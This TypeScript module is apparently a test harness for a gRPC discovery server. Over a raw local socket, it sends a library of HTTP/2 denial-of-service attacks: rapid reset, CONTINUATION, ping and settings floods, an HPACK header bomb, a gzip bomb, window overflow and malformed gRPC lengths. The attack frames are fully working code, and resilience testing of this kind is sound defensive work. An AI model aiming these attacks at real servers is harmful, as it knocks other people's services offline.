// An HTTP/2 peer that means harm, frame by frame over a raw socket: no HTTP/2 library would send these. In: a port and an attack.
// Out: how the server ended it. Bounded in time and bytes; stops by itself. Called by the tests of abuse.
import { randomBytes } from "node:crypto";
import { connect, type Socket } from "node:net";
import { gzipSync } from "node:zlib";
import { onCleanup } from "./cleanup.js";

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const frameTypes = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goAway: 7, windowUpdate: 8, continuation: 9 } as const;
const endHeaders = 0x4;
const endStream = 0x1;

/** https://www.rfc-editor.org/rfc/rfc9113#section-4.1 */
function frame(type: keyof typeof frameTypes, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(frameTypes[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A length with a prefix of 7 bits: https://www.rfc-editor.org/rfc/rfc7541#section-5.1 */
function length(value: number): Buffer {
  if (value < 127) return Buffer.from([value]);
  const bytes = [127];
  let rest = value - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  return Buffer.from([...bytes, rest]);
}
const text = (value: string): Buffer => Buffer.concat([length(value.length), Buffer.from(value)]);
/** A literal; `indexed`: it goes into the peer's dynamic table. */
const header = (name: string, value: string, indexed = false): Buffer =>
  Buffer.concat([Buffer.from([indexed ? 0x40 : 0]), text(name), text(value)]);
const path = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
const call = (...more: readonly Buffer[]): Buffer =>
  Buffer.concat([
    header(":method", "POST"),
    header(":scheme", "http"),
    header(":path", path),
    header(":authority", "a"),
    header("content-type", "application/grpc"),
    header("te", "trailers"),
    ...more,
  ]);
const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
/** gRPC's prefix: whether it is compressed, and how long it is. */
const message = (compressed: 0 | 1, size: number, bytes: Buffer): Buffer =>
  Buffer.concat([Buffer.from([compressed]), uint32(size), bytes]);
function dataFrames(stream: number, bytes: Buffer): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += 16_384) frames.push(frame("data", 0, stream, bytes.subarray(at, at + 16_384)));
  return Buffer.concat(frames);
}

/** What goes out after the preface; each chunk waits until the one before has left. */
type Attack = () => Iterable<Buffer>;
const many = (count: number, chunk: (at: number) => Buffer): Attack =>
  function* () {
    for (let at = 0; at < count; at++) yield chunk(at);
  };
const repeat = (bytes: Buffer, times: number): Buffer => Buffer.concat(Array.from({ length: times }, () => bytes));
/** Chunk `at` of an attack that opens streams, 100 in each. */
const streams = (at: number, each: (stream: number) => readonly Buffer[]): Buffer =>
  Buffer.concat(Array.from({ length: 100 }, (_, index) => each(1 + 2 * (at * 100 + index))).flat());

/** name → attack. What CVEs and drafts call them. */
export const attacks: Readonly<Record<string, Attack>> = {
  "rapid reset": many(500, (at) =>
    streams(at, (stream) => [frame("headers", endHeaders, stream, call()), frame("reset", 0, stream, uint32(8))]),
  ),
  "made you reset": many(500, (at) =>
    streams(at, (stream) => [frame("headers", endHeaders, stream, call()), frame("windowUpdate", 0, stream, uint32(0))]),
  ),
  "continuation flood": function* () {
    yield frame("headers", 0, 1, call());
    for (let at = 0; at < 2_000; at++) yield frame("continuation", 0, 1, header(`x-${at}`, "y".repeat(16_000)));
  },
  "ping flood": many(2_000, () => repeat(frame("ping", 0, 0, Buffer.alloc(8)), 500)),
  "settings flood": many(2_000, () => repeat(frame("settings", 0, 0), 500)),
  "empty data flood": function* () {
    yield frame("headers", endHeaders, 1, call());
    for (let at = 0; at < 2_000; at++) yield repeat(frame("data", 0, 1), 500);
  },
  "large headers": function* () {
    const block = call(...Array.from({ length: 350 }, (_, at) => header(`x-${at}`, "y".repeat(1_000))));
    yield frame("headers", 0, 1, block.subarray(0, 16_000));
    for (let at = 16_000; at < block.length; at += 16_000)
      yield frame("continuation", at + 16_000 >= block.length ? endHeaders : 0, 1, block.subarray(at, at + 16_000));
  },
  // One header of 3,900 bytes, named 12,000 times by one byte each: 45 MB for 16 KB.
  "header bomb": many(50, (at) =>
    frame(
      "headers",
      endHeaders,
      1 + 2 * at,
      Buffer.concat([call(header("x-bomb", "y".repeat(3_900), true)), Buffer.alloc(12_000, 0xbe)]),
    ),
  ),
  "random bytes": many(50, () => randomBytes(16_384)),
  "window overflow": many(200, () => repeat(frame("windowUpdate", 0, 0, uint32(0x7fff_ffff)), 100)),
  "gzip bomb": function* () {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
    yield frame("headers", endHeaders, 1, call(header("grpc-encoding", "gzip")));
    yield dataFrames(1, message(1, bomb.length, bomb));
  },
  "length of 4 GB": function* () {
    yield frame("headers", endHeaders, 1, call());
    yield dataFrames(1, message(0, 0xffff_ffff, Buffer.alloc(30_000)));
  },
};

/** closed: the connection is gone. refused: it was told to go (GOAWAY), or its stream was ended. served: neither, in the time there was. */
export type Outcome = "closed" | "refused" | "served";

/** Reads frames only as far as to see that the server had enough. */
class Watcher {
  #rest = Buffer.alloc(0) as Buffer;
  isRefused = false;

  take(bytes: Buffer): void {
    this.#rest = Buffer.concat([this.#rest, bytes]);
    while (this.#rest.length >= 9) {
      const size = this.#rest.readUIntBE(0, 3);
      if (this.#rest.length < 9 + size) return;
      const [type, flags] = [this.#rest.readUInt8(3), this.#rest.readUInt8(4)];
      const endsStream = type === frameTypes.headers && (flags & endStream) !== 0;
      if (endsStream || type === frameTypes.reset || type === frameTypes.goAway) this.isRefused = true;
      this.#rest = this.#rest.subarray(9 + size);
    }
  }
}

const once = (socket: Socket, event: string): Promise<void> => new Promise((resolve) => socket.once(event, () => resolve()));
const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms).unref());

/** Connects, attacks for `maxMs` at most, and tells how the server ended it. */
export async function attack(port: number, what: Attack, maxMs = 3_000): Promise<Outcome> {
  const socket = connect(port, "127.0.0.1");
  const forget = onCleanup("attacker", () => void socket.destroy());
  const watcher = new Watcher();
  let isClosed = false;
  const closed = once(socket, "close").then(() => {
    isClosed = true;
  });
  socket.on("error", () => {});
  socket.on("data", (bytes) => watcher.take(bytes));
  const until = performance.now() + maxMs;
  const left = (): number => Math.max(0, until - performance.now());
  socket.write(Buffer.concat([preface, frame("settings", 0, 0)]));
  for (const chunk of what()) {
    if (isClosed || left() === 0) break;
    if (!socket.write(chunk)) await Promise.race([once(socket, "drain"), closed, pause(left())]);
    else await new Promise((resolve) => setImmediate(resolve));
  }
  while (!isClosed && !watcher.isRefused && left() > 0) await Promise.race([closed, pause(20)]);
  if (watcher.isRefused && !isClosed) await Promise.race([closed, pause(200)]);
  socket.destroy();
  forget();
  return isClosed ? "closed" : watcher.isRefused ? "refused" : "served";
}
